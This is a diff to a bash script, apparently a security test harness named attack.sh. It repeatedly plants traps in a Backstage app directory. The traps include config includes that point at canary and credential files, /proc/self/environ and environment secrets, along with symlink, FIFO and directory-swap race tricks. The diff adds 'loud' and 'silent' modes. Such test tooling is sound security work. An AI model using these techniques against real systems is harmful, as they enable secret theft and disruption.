@@ -1,5 +1,6 @@
 #!/bin/bash
 # Runs as the app's user until it is killed: lays one trap after the other into the app's directory, and swaps that.
+# attack.sh loud: every trap; attack.sh silent: those that no run has to fail because of.
 app=/home/portal/backstage
 cd /home/portal || exit 1
 
@@ -40,7 +41,7 @@ local_file() {
   mv -f "$app/.new" "$app/app-config.local.yaml"
 }
 
-traps=(
+loud=(
   "connection '{\$file: /root/canary.yaml}' '{\$file: /etc/canary.yaml}' | local_file"
   "connection '{\$include: /root/canary.yaml#user}' '{\$include: /home/alice/canary.yaml#password}' | local_file"
   "connection '\${AWS_SECRET_ACCESS_KEY}' '\${POSTGRES_PASSWORD}' | local_file; ln -sfn /root/app/.env $app/.env"
@@ -50,6 +51,8 @@ traps=(
   "rm -f $app/.env; mkfifo $app/.env"
   "connection '{\$file: /dev/zero}' '{\$file: /proc/self/environ}' | local_file"
   "bomb | local_file"
+)
+silent=(
   "repository; ln -sfn /tmp/repository/.git $app/.git"
   "repository; ln -sfn /tmp $app/.git; cp -r /tmp/repository/.git/* /tmp/"
   "repository; echo 'gitdir: /tmp/repository/.git' > $app/.git"
@@ -62,13 +65,19 @@ swap() {
   mv real backstage
 }
 
+case $1 in
+  loud) traps=("${loud[@]}" "${silent[@]}") ;;
+  silent) traps=("${silent[@]}") ;;
+esac
 while :; do
   for trap in "${traps[@]}"; do
     plain
     eval "$trap"
     sleep 0.4
-    swap /root/app
-    swap /etc
+    if [ "$1" = loud ]; then
+      swap /root/app
+      swap /etc
+    fi
     sleep 0.4
   done
 done 2> /dev/null
